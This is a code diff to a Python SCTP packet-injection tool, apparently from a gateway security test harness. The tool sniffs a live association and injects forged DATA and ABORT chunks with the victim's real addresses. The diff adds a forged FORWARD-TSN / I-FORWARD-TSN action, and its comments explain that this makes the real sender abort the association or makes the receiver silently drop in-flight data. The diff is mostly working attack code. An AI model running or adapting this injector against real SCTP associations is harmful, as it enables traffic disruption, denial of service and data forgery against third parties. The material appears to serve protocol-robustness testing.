@@ -22,6 +22,12 @@ so the bytes are built here) or DATA.
          duplicates) and the PPID of a gateway's DATA in clear; bundled 32
          to a packet.
   abort  one ABORT (T bit clear, so the tag is DST's own).
+  fwdtsn one FORWARD-TSN (I-FORWARD-TSN where the association carries
+         I-DATA, RFC 8260) moving the cumulative TSN --skip TSNs past the
+         highest seen (default 16): told to skip TSNs never sent, the
+         receiver acknowledges them, and the real sender, seeing its TSNs
+         acknowledged beyond what it sent, aborts the association; told
+         to skip TSNs in flight, the receiver drops them as duplicates.
 
 The packets leave from IFACE with SRC's real addresses, so the receiving
 kernel's checks (tag, ports, CRC32c, reverse path) all pass: only SCTP-AUTH
@@ -47,6 +53,8 @@ ETH_P_ALL = 3
 CID_DATA = 0
 CID_ABORT = 6
 CID_IDATA = 64
+CID_FWD_TSN = 0xC0
+CID_IFWD_TSN = 0xC2
 PPID_GW_DATA = 0x53470012  # a gateway's DATA message, not sealed
 FORGED = b"FORGED-BY-INJECT"
 PER_PACKET = 32
@@ -157,6 +165,12 @@ def act(o, what, src, dst):
         send(w, o.iface, o.src, o.dst, struct.pack(">BBH", CID_ABORT, 0, 4))
         print(f"abort: sent=1 {seen}", flush=True)
         return True
+    if what == "fwdtsn":
+        ctype = CID_IFWD_TSN if w.chunk_type == CID_IDATA else CID_FWD_TSN
+        cum = (w.top_tsn + o.skip) & 0xFFFFFFFF
+        send(w, o.iface, o.src, o.dst, struct.pack(">BBHI", ctype, 0, 8, cum))
+        print(f"fwdtsn: sent=1 new_cum_tsn={cum} {seen}", flush=True)
+        return True
     sid = max(w.per_stream, key=w.per_stream.get)
     first = (w.top_tsn + 1) & 0xFFFFFFFF
     chunks = [user_chunk(w.chunk_type, (first + i) & 0xFFFFFFFF, sid, FORGED)
@@ -169,11 +183,12 @@ def act(o, what, src, dst):
 
 def main():
     p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    p.add_argument("actions", nargs="+", choices=["data", "abort"])
+    p.add_argument("actions", nargs="+", choices=["data", "abort", "fwdtsn"])
     p.add_argument("--iface", required=True)
     p.add_argument("--src", required=True)
     p.add_argument("--dst", required=True)
     p.add_argument("--count", type=int, default=64)
+    p.add_argument("--skip", type=int, default=16)
     p.add_argument("--sniff-s", type=float, default=30.0)
     p.add_argument("--want", type=int, default=20)
     p.add_argument("--pause", type=float, default=2.0)
